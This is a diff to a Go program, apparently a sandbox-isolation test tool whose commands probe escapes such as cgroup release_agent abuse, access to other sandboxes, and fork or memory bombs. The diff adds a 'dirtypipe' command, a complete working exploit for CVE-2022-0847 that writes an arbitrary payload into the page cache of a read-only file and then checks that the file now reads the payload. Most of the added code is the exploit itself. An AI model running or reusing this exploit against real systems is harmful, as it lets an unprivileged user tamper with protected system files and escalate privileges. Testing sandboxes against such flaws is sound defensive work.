@@ -11,6 +11,7 @@
 //	attack cgroup                    CVE-2022-0492: cgroup v1 release_agent
 //	attack peer MARKER PIDS...       reach another sandbox: its files via /proc/*/root, its processes by pid
 //	attack bomb fork|mem|fd|spin|disk DURATION resource abuse, bounded in time
+//	attack dirtypipe FILE OFFSET PAYLOAD CVE-2022-0847: write PAYLOAD into read-only FILE's page cache through a pipe
 package main
 
 import (
@@ -33,7 +34,7 @@ func say(k string, v ...any) { fmt.Println(append([]any{k}, v...)...) }
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "usage: attack exe|fds|unix|squat|kernel|cgroup|peer|bomb ...")
+		fmt.Fprintln(os.Stderr, "usage: attack exe|fds|unix|squat|kernel|cgroup|peer|bomb|dirtypipe ...")
 		os.Exit(2)
 	}
 	switch os.Args[1] {
@@ -53,6 +54,12 @@ func main() {
 		peer(os.Args[2], os.Args[3:])
 	case "bomb":
 		bomb(os.Args[2], duration(os.Args[3]))
+	case "dirtypipe":
+		off, err := strconv.ParseInt(os.Args[3], 10, 64)
+		if err != nil {
+			panic(err)
+		}
+		dirtyPipe(os.Args[2], off, os.Args[4])
 	case "child": // a fork bomb's child: fork two more until told to stop
 		child()
 	default:
@@ -507,4 +514,70 @@ func child() {
 		}
 	}
 	time.Sleep(time.Hour)
+}
+
+// dirtyPipe is CVE-2022-0847 ("Dirty Pipe"): every buffer of a pipe is
+// filled and drained (on a vulnerable kernel that leaves each marked
+// mergeable), one byte of file at off-1 is spliced into the pipe (its
+// buffer then refers to the file's page cache page), and payload is
+// written into the pipe, which a vulnerable kernel merges into that page:
+// the file reads payload at off, read-only mount, mode and owner
+// notwithstanding. It reports each step and what the file reads at off
+// afterwards, through a new descriptor.
+func dirtyPipe(file string, off int64, payload string) {
+	step := func(name string, n int, err error) { say("DIRTYPIPE", name, n, fmt.Sprintf("err=%v", err)) }
+	_, werr := os.OpenFile(file, os.O_WRONLY, 0)
+	step("open-for-writing", 0, werr)
+	var p [2]int
+	if err := unix.Pipe(p[:]); err != nil {
+		step("pipe", 0, err)
+		return
+	}
+	size, err := unix.FcntlInt(uintptr(p[1]), unix.F_GETPIPE_SZ, 0)
+	step("pipe-size", size, err)
+	if size <= 0 {
+		size = 65536
+	}
+	buf := make([]byte, 4096)
+	filled, drained := 0, 0
+	for filled < size {
+		n, err := unix.Write(p[1], buf[:min(len(buf), size-filled)])
+		if n <= 0 || err != nil {
+			break
+		}
+		filled += n
+	}
+	for drained < filled {
+		n, err := unix.Read(p[0], buf)
+		if n <= 0 || err != nil {
+			break
+		}
+		drained += n
+	}
+	step("filled", filled, nil)
+	step("drained", drained, nil)
+	f, err := os.Open(file)
+	if err != nil {
+		step("open", 0, err)
+		return
+	}
+	defer f.Close()
+	start := off - 1
+	n, err := unix.Splice(int(f.Fd()), &start, p[1], nil, 1, 0)
+	step("splice", int(n), err)
+	w, err := unix.Write(p[1], []byte(payload))
+	step("write", w, err)
+	unix.Close(p[0])
+	unix.Close(p[1])
+	g, err := os.Open(file)
+	if err != nil {
+		step("reopen", 0, err)
+		return
+	}
+	defer g.Close()
+	got := make([]byte, len(payload))
+	r, err := g.ReadAt(got, off)
+	step("reread", r, err)
+	say("DIRTYPIPE-READS", fmt.Sprintf("%q", got[:r]))
+	say("DIRTYPIPE-CHANGED", string(got[:r]) == payload)
 }
